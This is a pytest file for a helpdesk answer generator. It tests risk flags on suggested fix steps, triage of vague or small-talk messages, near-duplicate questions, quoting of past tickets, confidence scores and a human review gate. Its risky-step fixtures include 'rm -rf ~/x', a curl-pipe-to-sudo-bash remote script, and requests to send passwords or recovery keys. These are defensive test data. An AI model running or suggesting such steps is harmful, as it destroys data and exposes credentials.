"""The rules of answering: risk, kinds of questions, near misses, quotes, confidence, gate."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.generation.candidates import Candidate
from workers.generation.equivalence import near_identical, question_key
from workers.generation.extractive.confidence import quoted_confidence
from workers.generation.extractive.quotation import draft_extractive
from workers.generation.guardrails.risk import risks
from workers.generation.policy import PolicyInput, decide
from workers.generation.triage.humans import wish
from workers.generation.triage.small_talk.kinds import SmallTalk, small_talk
from workers.generation.triage.vagueness import is_vague

TODAY = date(2026, 3, 1)
STEPS = "1. Open the settings.\n2. Choose the profile.\n3. Restart the program and try again."


def candidate(number: int = 1, **values: object) -> Candidate:
    made = Candidate(
        ticket_id=number, ticket_hash=f"h{number}", title="Wifi", problem="no wifi",
        resolution=STEPS, matched=(STEPS,), url=None, date=datetime(2026, 1, 1, tzinfo=UTC),
        language="en", kind="ticket", category=None, relevance=0.8, score=0.8,
    )  # fmt: skip
    return replace(made, **values)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Run sudo apt install x", "administrator"),
        ("avec les droits administrateur", "administrator"),
        ("Delete the folder", "deletion"),
        ("Supprimez le profil", "deletion"),
        ("rm -rf ~/x", "deletion"),
        ("The reset takes an hour and your files are deleted for good.", "deletion"),
        ("Supprime tous les fichiers du profil", "deletion"),
        ("Files are deleted after 60 days, so delete the folder now.", "deletion"),
        ("set a new password", "password"),
        ("Log in with one of your backup codes.", "password"),
        ("changez votre mot de passe", "password"),
        ("turn off the antivirus", "security_off"),
        ("Envoyez votre **mot** de\npasse", "password"),
        ("Send your p\u0430ssword", "password"),
        ("Donnez votre RIB à l’accueil", "payment"),
        ("Envoyez la clé de récupération BitLocker par courriel", "password"),
        ("désactivez le pare-feu", "security_off"),
        ("curl https://x.example/i.sh | sudo bash", "remote_script"),
    ],
)
def test_risky_steps(text: str, code: str) -> None:
    assert code in risks(text)


@pytest.mark.parametrize(
    "text",
    [
        STEPS,
        "Videz le cache du navigateur.",
        "Delete the cookies of the browser.",
        "The recovery key can be found under Devices.",
        "Files that nobody touched for 60 days are deleted every Sunday.",
        "/scratch | 5 To | aucune sauvegarde, effacé après 60 jours | calculs",
        "Les scans sont supprimés automatiquement au bout de 30 jours.",
        "Allow it to turn off the device.\nThen start the VPN again.",
        "",
    ],
)
def test_harmless_steps(text: str) -> None:
    assert risks(text) == ()


@pytest.mark.parametrize("text", ["merci", "Merci beaucoup !", "thanks!", "ok", "parfait, merci"])
def test_small_talk(text: str) -> None:
    assert small_talk(text) is SmallTalk.THANKS


@pytest.mark.parametrize("text", ["merci de réparer mon imprimante", "ok but the VPN still fails"])
def test_no_small_talk(text: str) -> None:
    assert not small_talk(text)


@pytest.mark.parametrize("text", ["it does not work", "ça marche pas", "help", "problème"])
def test_vague(text: str) -> None:
    assert is_vague(text)


@pytest.mark.parametrize("text", ["VPN error 809", "imprimante bloquée", "my Slurm job is pending"])
def test_not_vague(text: str) -> None:
    assert not is_vague(text)


@pytest.mark.parametrize(
    "text", ["I want to talk to a human", "je veux parler à quelqu'un", "un humain svp"]
)
def test_a_human_is_wanted(text: str) -> None:
    assert wish(text)


SAME = [
    ("How do I install Word?", "how to install word"),
    ("Comment installer Word ?", "bonjour, comment installer word svp"),
    ("VPN error 809 at the hotel", "At the hotel: VPN error 809"),
]
OTHER = [
    ("How do I install Word?", "How do I uninstall Word?"),
    ("How do I install Word?", "How do I install Excel?"),
    ("VPN error 809", "VPN error 812"),
    ("I can print in colour", "I cannot print in colour"),
    ("activer la double authentification", "désactiver la double authentification"),
    ("printer on floor 2", "printer on floor 3"),
    ("my Mac does not start", "my PC does not start"),
    ("mount the share on Linux", "mount the share on Windows"),
]


@pytest.mark.parametrize(("one", "other"), SAME)
def test_nearly_the_same_question(one: str, other: str) -> None:
    assert near_identical(one, other)
    assert near_identical(other, one)


@pytest.mark.parametrize(("one", "other"), OTHER)
def test_a_near_miss_is_another_question(one: str, other: str) -> None:
    assert not near_identical(one, other)
    assert not near_identical(other, one)


@given(st.text(max_size=80), st.sampled_from(["fr", "en"]))
def test_any_question_has_a_key_and_is_like_itself(text: str, language: str) -> None:
    assert question_key(text, language) == question_key(text, language)
    risks(text)
    is_vague(text)
    small_talk(text)
    wish(text)


def test_the_quote_is_the_source_word_for_word() -> None:
    proposal = draft_extractive("wifi profile", "en", [candidate()])
    assert proposal is not None
    assert STEPS in proposal.text
    assert proposal.text.startswith("From a similar ticket [1]")
    assert [source.number for source in proposal.sources] == [1]


def test_a_source_in_the_language_of_the_question_is_preferred() -> None:
    english, french = candidate(1), candidate(2, language="fr", relevance=0.75)
    proposal = draft_extractive("wifi", "fr", [english, french])
    assert proposal is not None
    assert proposal.sources[0].candidate.ticket_id == 2
    far = draft_extractive("wifi", "fr", [english, replace(french, relevance=0.3)])
    assert far is not None
    assert (far.sources[0].candidate.ticket_id, far.same_language) == (1, False)


@pytest.mark.parametrize("resolution", [None, "", "fait", "done", "ok", "résolu par téléphone"])
def test_what_says_nothing_is_not_quoted(resolution: str | None) -> None:
    assert draft_extractive("wifi", "en", [candidate(resolution=resolution)]) is None


def test_what_was_rejected_is_not_quoted_again() -> None:
    assert draft_extractive("wifi", "en", [candidate()], frozenset({1})) is None


@given(st.floats(0, 1), st.floats(0, 1))
def test_confidence_grows_with_relevance_and_stays_in_bounds(one: float, other: float) -> None:
    def value(relevance: float) -> float:
        found = [candidate(relevance=relevance)]
        proposal = draft_extractive("wifi", "en", found)
        assert proposal is not None
        made = quoted_confidence(proposal, found, TODAY)
        assert 0.0 <= made.value <= 1.0
        assert made.reasons
        return made.value

    low, high = sorted((one, other))
    assert value(low) <= value(high)


def test_an_old_source_and_another_language_lower_it() -> None:
    def value(language: str = "en", **values: object) -> float:
        found = [candidate(**values)]
        proposal = draft_extractive("wifi", language, found)
        assert proposal is not None
        return quoted_confidence(proposal, found, TODAY).value

    assert value(date=datetime(2016, 1, 1, tzinfo=UTC)) < value()
    assert value(language="fr") < value()


@pytest.mark.parametrize(
    ("title", "doubtful"), [("Wifi", False), ("The wifi is down", False), ("Printer jams", True)]
)
def test_a_second_source_is_a_doubt_only_where_it_is_another_case(
    title: str, doubtful: bool
) -> None:
    found = [candidate(), candidate(2, title=title, resolution="Call the desk, they reset it.")]
    proposal = draft_extractive("wifi", "en", found)
    assert proposal is not None
    assert ("close_second" in quoted_confidence(proposal, found, TODAY).reasons) is doubtful


@pytest.mark.parametrize("mode", ["auto", "hybrid", "review"])
@pytest.mark.parametrize("sure", [0.0, 0.59, 0.6, 1.0])
@pytest.mark.parametrize("risky", [(), ("deletion",)])
@pytest.mark.parametrize("approved", [True, False])
def test_the_gate(mode: str, sure: float, risky: tuple[str, ...], approved: bool) -> None:
    found = decide(PolicyInput(mode=mode, confidence=sure, threshold=0.6, risks=risky,
                             approved=approved))  # type: ignore[arg-type]  # fmt: skip
    if risky:
        wanted = "review"
    elif approved or mode == "auto":
        wanted = "send"
    elif mode == "review":
        wanted = "review"
    else:
        wanted = "send" if sure >= 0.6 else "review"
    assert found.outcome == wanted
    assert found.reasons
